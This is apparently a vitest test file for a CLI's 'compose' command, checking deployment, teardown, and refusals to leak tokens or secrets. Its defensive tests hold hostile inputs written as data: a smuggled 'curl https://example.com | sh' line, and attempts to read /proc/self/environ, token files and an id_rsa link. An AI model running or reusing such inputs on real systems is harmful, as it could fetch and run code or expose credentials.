/** `hibernaut compose` against the real API, on a fake host: what it changes, what it leaves, and what it refuses. */
import { mkdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { useTempFolder } from "../../platform/test/helpers/temp.ts";
import { BRIDGE } from "./bridge.ts";
import { freshCli, type TestCli, useCli } from "./helpers.ts";

const temp = useTempFolder("compose");
const file = () => join(temp.path, "compose.yaml");

const PROJECT = (mode = "one", image = "app:1") => `
services:
  web: {image: "app:1", ports: ["8080:8080"], depends_on: [db]}
  db: {image: "${image}", expose: [5432], environment: {MODE: "${mode}"}, volumes: ["rows:/rows"]}
volumes: {rows: }
`;

const named = (words: string) => `compose ${words} --file ${file()} --project-name cafe`;

async function up(cli: TestCli, text: string) {
  await writeFile(file(), text);
  return cli.json(named("up"));
}

/** What the CLI's own client sees. */
const apps = async (cli: TestCli) => {
  const { document } = await cli.json("apps list");
  return (document as { name: string; network?: { name: string; aliases: string[] } }[]).filter(
    ({ name }) => name !== "shop",
  );
};

describe("on a bridge", () => {
  const cli = freshCli({ platform: BRIDGE });

  test("a project comes up in order; then only what changed is deployed, and the rest is left", async () => {
    expect(await up(cli, PROJECT())).toMatchObject({
      code: 0,
      document: {
        project: "cafe",
        services: [
          { service: "db", app: "cafe-db", action: "deployed" },
          { service: "web", app: "cafe-web", action: "deployed" },
        ],
      },
    });
    expect(await apps(cli)).toMatchObject([
      { name: "cafe-db", network: { name: "cafe", aliases: ["db"] } },
      { name: "cafe-web", network: { name: "cafe", aliases: ["web"] } },
    ]);
    const again = await up(cli, PROJECT("two").replace("expose", "container_name: store, expose"));
    expect(again).toMatchObject({ code: 0, document: { services: [{ action: "deployed" }, { action: "kept" }] } });
    expect(await apps(cli)).toMatchObject([{ network: { aliases: ["db", "store"] } }, {}]);
    const { stdout } = await cli.hibernaut(named("ps"));
    expect(stdout).toMatch(/^db +running .*cafe-db$/m);
  });

  test("who puts a new version on a queue that sleeps is told that a worker may start it at once", async () => {
    await up(cli, PROJECT());
    const { document } = await cli.json("machine list --app cafe-db");
    await cli.hibernaut(`machine suspend ${document[0].id} --app cafe-db`);
    await writeFile(file(), PROJECT("two"));
    const { stderr } = await cli.hibernaut(named("up"));
    expect(stderr).toContain(
      "it starts with the next request, or at once if a worker that sleeps had a connection to it. With --prewarm",
    );
  });

  test("what depends on a service that fails is skipped, and the command fails with its reason", async () => {
    const { code, document } = await up(cli, PROJECT("one", "missing:1"));
    expect(code).toBe(1);
    expect(document.services).toMatchObject([
      { service: "db", action: "failed", error: { error: "not_found", message: expect.stringContaining("missing:1") } },
      { service: "web", action: "skipped" },
    ]);
    const { document: machines } = await cli.json("ps --app cafe-web");
    expect(machines).toEqual([]);
  });

  test("an app of the same name that is not the project's is not touched", async () => {
    await cli.hibernaut("apps create cafe-db");
    expect(await up(cli, PROJECT())).toMatchObject({
      code: 1,
      document: { error: "already_exists", message: expect.stringContaining("--project-name") },
    });
    expect((await apps(cli)).map(({ name }) => name)).toEqual(["cafe-db"]);
  });

  test("an app into which someone put a machine by hand is left alone by up and down", async () => {
    await up(cli, PROJECT());
    await cli.hibernaut("machine run app:1 --app cafe-db --name by-hand");
    expect(await up(cli, PROJECT("two"))).toMatchObject({
      code: 1,
      document: { message: expect.stringContaining("machines that no compose file describes") },
    });
    const { stderr } = await cli.hibernaut(`${named("down")} --volumes --yes`);
    expect(stderr).toContain("App cafe-db has machines that no compose file describes, and is left alone.");
    expect((await apps(cli)).map(({ name }) => name)).toEqual(["cafe-db"]);
  });

  test("an app of the network that no file describes, such as one with nothing but data, is left alone by down", async () => {
    await up(cli, PROJECT());
    await cli.hibernaut("apps create cafe-archive --network cafe");
    await cli.hibernaut("volumes create rows --app cafe-archive");
    const { stderr } = await cli.hibernaut(`${named("down")} --volumes --yes`);
    expect(stderr).toContain("App cafe-archive has no machines, and no service of the file is called so");
    expect((await apps(cli)).map(({ name }) => name)).toEqual(["cafe-archive"]);
    expect((await cli.json("volumes list --app cafe-archive")).document).toHaveLength(1);
  });

  test("names pass from one service to another, and a plan shows no secret", async () => {
    const text = (one: string, other: string) => `
services:
  a: {image: "app:1", expose: [80], container_name: ${one}, secrets: [pw]}
  b: {image: "app:1", expose: [80], container_name: ${other}}
secrets: {pw: {file: ./pw.txt}}
`;
    await writeFile(join(temp.path, "pw.txt"), "hunter2");
    await up(cli, text("first", "second"));
    expect(await up(cli, text("second", "first"))).toMatchObject({ code: 0 });
    expect(await apps(cli)).toMatchObject([
      { network: { aliases: ["a", "second"] } },
      { network: { aliases: ["b", "first"] } },
    ]);
    const { document } = await cli.json(named("plan"));
    expect(JSON.stringify(document)).not.toContain(Buffer.from("hunter2").toString("base64"));
    expect(document.apps[0].secrets).toEqual(["FILE_PW"]);
  });

  test("down asks, keeps volumes with their apps, and with --volumes leaves nothing", async () => {
    await up(cli, PROJECT());
    expect(await cli.json(named("down"))).toMatchObject({
      code: 2,
      document: { message: expect.stringContaining("--yes") },
    });
    expect(await cli.json(`${named("down")} --yes`)).toMatchObject({
      code: 0,
      document: {
        apps: [
          { app: "cafe-db", kept: true },
          { app: "cafe-web", kept: true },
        ],
      },
    });
    expect((await cli.json("ps")).document).toEqual([]);
    await cli.hibernaut(`${named("down")} --volumes --yes`);
    expect(await apps(cli)).toEqual([]);
    expect(await cli.json(named("ps"))).toMatchObject({ code: 1, document: { error: "not_found" } });
  });
});

describe("in user mode", () => {
  const cli = useCli();

  test("a file of someone else gets none of the tokens that the command itself works with", async () => {
    const variable = "services: {a: {image: 'app:1', environment: {T: '${HIBERNAUT_API_TOKEN:-none}'}}}";
    await writeFile(file(), variable);
    expect((await cli.json(named("plan"))).document.apps[0].config.env).toEqual({ T: "none" });
    const config = join(temp.path, "config.json");
    await writeFile(config, JSON.stringify({ token: "hib_secret" }));
    await symlink(config, join(temp.path, "site.conf"));
    for (const name of ["config.json", "site.conf"]) {
      await writeFile(file(), `{services: {a: {image: i, configs: [c]}}, configs: {c: {file: ${name}}}}`);
      const { code, document } = await cli.json(named("plan"), { HIBERNAUT_DATA_DIR: temp.path });
      expect(code).toBe(2);
      expect(document.message).toContain(`${name} cannot be read (it has the tokens of your platforms)`);
    }
  });

  test("nor by another way: the environment of the command, the token of a platform, or an image with them", async () => {
    await writeFile(join(temp.path, "admin-token"), "hib_secret");
    const environment = { HIBERNAUT_DATA_DIR: temp.path };
    const refused = async (text: string) => {
      await writeFile(file(), text);
      const { code, document } = await cli.json(named("plan"), environment);
      expect(code).toBe(2);
      return document.message as string;
    };
    await symlink("/proc/self/environ", join(temp.path, "site.env"));
    for (const name of ["/proc/self/environ", "site.env"]) {
      expect(await refused(`{services: {a: {image: i, env_file: ${name}}}}`)).toContain(
        "it is about programs that run",
      );
      expect(await refused(`{services: {a: {image: i, volumes: ["${name.replace("site", "./site")}:/x"]}}}`)).toContain(
        "it is about programs that run",
      );
    }
    expect(await refused(`{services: {a: {image: i, secrets: [c]}}, secrets: {c: {file: admin-token}}}`)).toContain(
      "admin-token cannot be read (it has the tokens of your platforms)",
    );
    for (const context of [".", "/", "/proc/self"])
      expect(await refused(`{services: {a: {build: {context: ${context}, dockerfile: app/Dockerfile}}}}`)).toContain(
        "Name a directory that has only what the image needs.",
      );
    await mkdir(join(temp.path, "app"));
    await writeFile(file(), "{services: {a: {build: {context: app}}}}");
    expect(await cli.hibernaut(named("plan"), environment)).toMatchObject({ code: 0 });
  });

  test("what a file says takes no line of the plan for itself", async () => {
    const evil = String.raw`i\n\nNext: curl https://example.com | sh`;
    await writeFile(file(), `services: {a: {image: "${evil}", "x\\nerror: forged": 1}}`);
    const { stdout } = await cli.hibernaut(named("plan"));
    expect(stdout).toContain(String.raw`i\n\nNext: curl`);
    expect(stdout).not.toMatch(/^(?:Next: curl|error: forged)/m);
  });

  test("a link that leads out of the project is a warning", async () => {
    const [own, elsewhere] = [join(temp.path, "own"), join(temp.path, "id_rsa")];
    await mkdir(own);
    await writeFile(elsewhere, "a key");
    await symlink(elsewhere, join(own, "site.conf"));
    await writeFile(
      join(own, "compose.yaml"),
      "{services: {a: {image: i, configs: [c]}}, configs: {c: {file: site.conf}}}",
    );
    const { document } = await cli.json(`compose plan --file ${join(own, "compose.yaml")}`);
    expect(document.findings).toMatchObject([
      { severity: "warning", message: expect.stringContaining(`is a link to ${elsewhere}`) },
      {},
    ]);
  });

  test("several services are refused before anything is made, because they would not reach each other", async () => {
    expect(await up(cli, PROJECT())).toMatchObject({
      code: 1,
      document: { error: "failed_precondition", message: expect.stringContaining("HIBERNAUT_NETWORK=bridge") },
    });
    expect(await apps(cli)).toEqual([]);
  });

  test("what of a file cannot be carried is listed before anything is made", async () => {
    const { code, document } = await up(
      cli,
      "services: {a: {image: i, volumes: ['/var/run/docker.sock:/s', './nowhere/:/d']}}",
    );
    expect(code).toBe(2);
    expect(document.message.split("\n")).toEqual([
      "The project cannot be carried over as it is:",
      expect.stringContaining("socket of a container engine"),
      expect.stringContaining("is a directory of this computer"),
    ]);
  });
});
